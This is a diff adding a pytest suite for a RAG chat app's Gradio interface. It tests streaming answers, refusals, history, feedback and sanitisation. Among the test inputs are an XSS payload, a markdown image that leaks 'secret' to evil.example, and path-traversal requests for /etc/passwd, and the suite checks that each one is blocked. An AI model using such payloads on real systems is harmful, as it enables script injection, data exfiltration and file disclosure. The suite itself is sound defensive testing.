@@ -1,0 +1,120 @@
+"""The web chat: `respond` directly, the served app through gradio_client, and what is rendered inert."""
+
+import json
+
+import pytest
+
+import rag
+from ui import app as ui_app
+from ui.render import inert, sources_html
+
+from .conftest import free_port
+from .fakes import ScriptedChatModel
+
+Q = "When was the Ottawa Convention signed?"
+
+
+@pytest.fixture
+def scripted_engine(ready_settings, embedder):
+    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder)
+    engine.__dict__["_llms"] = {"local": ScriptedChatModel()}
+    return engine
+
+
+def test_respond_streams_growing_text_then_cited_answer(scripted_engine):
+    outputs = list(ui_app.respond(Q, [], 4, "local", engine=scripted_engine))
+    texts = [t for t, _ in outputs]
+    assert texts[0] == "" and "Searching these passages" in outputs[0][1], "evidence comes before any text"
+    growing = texts[1:-1]
+    assert len(growing) > 3 and all(a and b.startswith(a.rstrip()) for a, b in zip(growing, growing[1:], strict=False))
+    final_text, final_sources = outputs[-1]
+    assert final_text.endswith("[1].")
+    assert "<mark>" in final_sources and "id='source-1'" in final_sources and "<h3>Sources</h3>" in final_sources
+
+
+def test_respond_refuses_out_of_corpus_and_reports_errors_in_one_line(scripted_engine):
+    text, sources = list(ui_app.respond("What is the best recipe for banana bread?", [], 4, "local", engine=scripted_engine))[-1]
+    assert text == inert(rag.answer.REFUSAL) and "No sources." in sources
+    text, _ = list(ui_app.respond("x" * 5000, [], 4, "local", engine=scripted_engine))[-1]
+    assert "limit" in text and "\n" not in text
+
+
+def test_respond_uses_the_history_for_follow_ups(scripted_engine):
+    history = [{"role": "user", "content": "What does the Ottawa Convention ban?"}, {"role": "assistant", "content": "Anti-personnel mines [1]."}]
+    list(ui_app.respond("How many countries have joined it?", history, 4, "local", engine=scripted_engine))
+    condense_prompt = scripted_engine.llm("local").calls[0][-1].content
+    assert "User: What does the Ottawa Convention ban?" in condense_prompt
+
+
+def test_model_output_is_rendered_inert():
+    text = inert('See <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [click](https://evil.example) https://evil.example/x')
+    assert "<img" not in text and "evil.example/?q" not in text and "](" not in text
+    assert "click" in text and "&lt;img" in text and "`https://evil.example/x`" in text
+
+
+def test_sources_html_escapes_chunk_text():
+    html = sources_html([{"n": 1, "title": "<b>t</b>", "source": "s", "text": "a <script>alert(1)</script> b", "quote": "b"}], "Sources")
+    assert "<script>" not in html and "&lt;script&gt;" in html and "<mark>b</mark>" in html
+
+
+def test_feedback_is_appended_as_jsonl(tmp_path, scripted_engine):
+    final, _ = list(ui_app.respond(Q, [], 4, "local", engine=scripted_engine))[-1]
+    path = tmp_path / "fb" / "feedback.jsonl"
+    ui_app.record_feedback(path, True, final)
+    ui_app.record_feedback(path, False, "unknown answer")
+    rows = [json.loads(line) for line in path.read_text().splitlines()]
+    assert rows[0]["liked"] is True and rows[0]["question"] == Q and rows[0]["citations"][0]["n"] == 1
+    assert rows[1]["liked"] is False and rows[1]["question"] is None
+
+
+@pytest.fixture
+def served(scripted_engine, monkeypatch):
+    """The real app served over HTTP on loopback (in this process, so the scripted model stays under control)."""
+    monkeypatch.delenv("RAG_UI_AUTH", raising=False)
+    port = free_port()
+    demo_app, url, _ = ui_app.launch(scripted_engine, port=port, block=False)
+    yield f"http://127.0.0.1:{port}/"
+    ui_app.close_all()
+
+
+def test_served_app_through_gradio_client(served, scripted_engine):
+    from gradio_client import Client
+
+    client = Client(served, verbose=False)
+    assert list(client.view_api(print_info=False, return_format="dict")["named_endpoints"]) == ["/respond"]
+    job = client.submit(Q, 4, "local", api_name="/respond")
+    updates = list(job)
+    text, sources = job.result()
+    assert len(updates) > 2 and text.endswith("[1].")
+    chunk_texts = {d.page_content for d in scripted_engine.store.get()}
+    cited = sources.split("<p class='chunk'>")[1].split("</p>")[0]
+    import html
+
+    assert html.unescape(cited) in chunk_texts, "the cited source is a real chunk"
+
+    # A follow-up in the same session resolves against the history kept by the server.
+    client.predict("How many countries have joined it?", 4, "local", api_name="/respond")
+    rewrite_request = scripted_engine.llm("local").calls[-2][-1].content
+    assert "User: " + Q in rewrite_request
+
+    text, sources = Client(served, verbose=False).predict("What is the best recipe for banana bread?", 4, "local", api_name="/respond")
+    assert text == inert(rag.answer.REFUSAL)
+
+
+def test_served_app_closes_queue_skipping_routes_and_private_files(served):
+    import httpx
+
+    r = httpx.post(served + "gradio_api/api/respond", json={"data": [Q, 4, "local"]}, timeout=10)
+    assert r.status_code in (401, 403, 404, 405), r.status_code
+    for path in ["gradio_api/file=../index/manifest.json", "gradio_api/file=/etc/passwd", "gradio_api/file=index/manifest.json", "file=/etc/passwd"]:
+        r = httpx.get(served + path, timeout=10)
+        assert r.status_code in (403, 404), (path, r.status_code)
+        assert "root:" not in r.text and "collection" not in r.text
+
+
+def test_cli_serve_refuses_without_an_index(tmp_path):
+    import subprocess
+    import sys
+
+    run = subprocess.run([sys.executable, "-m", "rag", "serve", "--index", str(tmp_path / "none")], capture_output=True, text=True, timeout=120)
+    assert run.returncode == 3 and "run `rag ingest` first" in run.stderr
